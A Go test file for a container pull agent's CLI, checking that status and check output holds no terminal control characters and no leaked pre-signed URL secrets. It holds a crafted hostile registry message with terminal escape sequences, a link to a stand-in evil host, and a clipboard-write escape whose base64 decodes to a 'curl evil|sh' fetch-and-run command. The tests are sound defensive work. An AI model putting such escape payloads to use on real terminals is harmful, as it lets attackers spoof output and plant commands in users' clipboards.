package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"

	"github.com/molecule-ai/pull-agent/agent/pull"
	"github.com/molecule-ai/pull-agent/agent/state"
)

// hostile is a registry's message made to drive a terminal: a window
// title, cursor-up and erase-line to overwrite an earlier line, a link and
// a clipboard write, a C1 CSI, and a pre-signed URL.
const hostile = "denied\x1b]0;owned\x07\x1b[1A\x1b[2K\rall warm \x1b]8;;http://evil.test/\x1b\\link\x1b]8;;\x1b\\" +
	"\x1b]52;c;Y3VybCBldmlsfHNo\x07\u009b2J https://bucket.s3.amazonaws.com/b?X-Amz-Security-Token=tok-s3cret&X-Amz-Signature=sig"

// noTerminalControl fails when out holds a byte that makes a terminal do
// anything but print (tab and newline aside), or a secret.
func noTerminalControl(t *testing.T, what, out string) {
	t.Helper()
	for _, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) {
			t.Fatalf("%s holds control character %U:\n%q", what, r, out)
		}
	}
	for _, s := range []string{"tok-s3cret", "X-Amz-Signature=sig"} {
		if strings.Contains(out, s) {
			t.Fatalf("%s holds %q:\n%s", what, s, out)
		}
	}
}

// A crafted state file (a short digest, escape sequences in every text)
// is shown without a panic and without a control character; it used to
// panic on local_digest "sha256:ab".
func TestStatusOfACraftedStateFile(t *testing.T) {
	dir := t.TempDir()
	doc := map[string]any{
		"schema_version": 1,
		"written_at":     time.Now().UTC(),
		"agent":          map[string]any{"version": hostile, "prefix": hostile, "config_ok": false, "config_error": hostile, "env_file": hostile, "total": 2},
		"hosts":          []map[string]any{{"host": hostile, "credential_source": hostile}},
		"images": []map[string]any{
			{"runtime": hostile, "image": hostile, "state": hostile, "local_digest": "sha256:ab", "last_error_class": hostile, "last_error": hostile},
			{"runtime": "codex", "state": "warm", "local_digest": "sha256:", "remote_digest": "x", "progress": map[string]any{"bytes": -5, "total_bytes": -1}},
		},
	}
	data, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, state.StateFileName), data, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{nil, {"--json"}} {
		code, out, errOut := runCLI(t, nil, append([]string{"status", "--status-socket", filepath.Join(dir, "none.sock"), "--state-dir", dir}, args...)...)
		if code != statusDown {
			t.Fatalf("status %v: exit %d, stderr %q", args, code, errOut)
		}
		noTerminalControl(t, fmt.Sprintf("status %v stdout", args), out)
		noTerminalControl(t, fmt.Sprintf("status %v stderr", args), errOut)
		if !strings.Contains(out, "denied") {
			t.Errorf("status %v no longer shows the registry's words:\n%s", args, out)
		}
	}
}

// FuzzRenderStatus renders status (human, with and without colour, and
// JSON) from arbitrary state documents: no panic, and no escape sequence
// but the colours status itself paints.
func FuzzRenderStatus(f *testing.F) {
	f.Add([]byte(`{"schema_version":1,"images":[{"runtime":"codex","state":"warm","local_digest":"sha256:ab"}]}`))
	f.Add([]byte(`{"schema_version":1,"agent":{"config_error":"\u001b]0;x\u0007"},"images":[{"progress":{"bytes":5,"total_bytes":-1}}]}`))
	f.Add([]byte(`{"schema_version":0,"hosts":[{"host":"h","cooldown_until":"2026-01-01T00:00:00Z"}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		doc, err := state.DecodeState("fuzz", bytes.NewReader(data))
		if err != nil {
			return
		}
		now := time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC)
		for _, live := range []bool{true, false} {
			var b bytes.Buffer
			printHuman(&b, doc, live, fmt.Errorf("down"), false, now)
			noTerminalControl(t, "status", b.String())
			b.Reset()
			printHuman(&b, doc, live, nil, true, now)
			painted := colourRE.ReplaceAllString(b.String(), "")
			noTerminalControl(t, "status in colour", painted)
		}
		var js bytes.Buffer
		if err := report(doc, nil, "", true, false, false, &js); err != nil && !isExit(err) {
			t.Fatal(err)
		}
		noTerminalControl(t, "status --json", js.String())
	})
}

// FuzzRenderCheck renders check's table from arbitrary reports, as a
// registry and the daemon could make them: no panic, no control character.
func FuzzRenderCheck(f *testing.F) {
	f.Add("codex", "sha256:ab", "linux/amd64\x1b[2J", "denied\x1b]0;x\x07", "sha256:"+strings.Repeat("a", 64), true, false)
	f.Add("", "", "", "", "", false, true)
	f.Fuzz(func(t *testing.T, runtime, dg, platform, errText, dg2 string, present, twoPrefixes bool) {
		rep := pull.CheckReport{Prefix: "p", Platform: "linux/amd64",
			Images: []pull.CheckResult{{Runtime: runtime, Image: runtime, Present: present, Digest: digest.Digest(dg), ImageDigest: digest.Digest(dg2), Attestations: len(dg), Platforms: []string{platform, ""}, Class: pull.ErrorClass(errText), Error: errText}},
			Hosts:  []pull.HostCheck{{Host: errText, Source: platform, AuthOK: present, Error: errText}}}
		reports := []pull.CheckReport{rep}
		var parity map[string]pull.Comparison
		if twoPrefixes {
			q := rep
			q.Images = []pull.CheckResult{{Runtime: runtime, Present: true, Digest: digest.Digest(dg2), ImageDigest: digest.Digest(dg2), Platforms: []string{platform}}}
			reports = append(reports, q)
			parity = pull.Compare(rep, q)
		}
		var b bytes.Buffer
		printCheck(&b, reports, parity)
		noTerminalControl(t, "check", b.String())
	})
}

// colourRE matches the SGR colours status paints itself.
var colourRE = regexp.MustCompile(`\x1b\[(0|31|32|33)m`)

func isExit(err error) bool {
	var ee *exitError
	return errors.As(err, &ee)
}
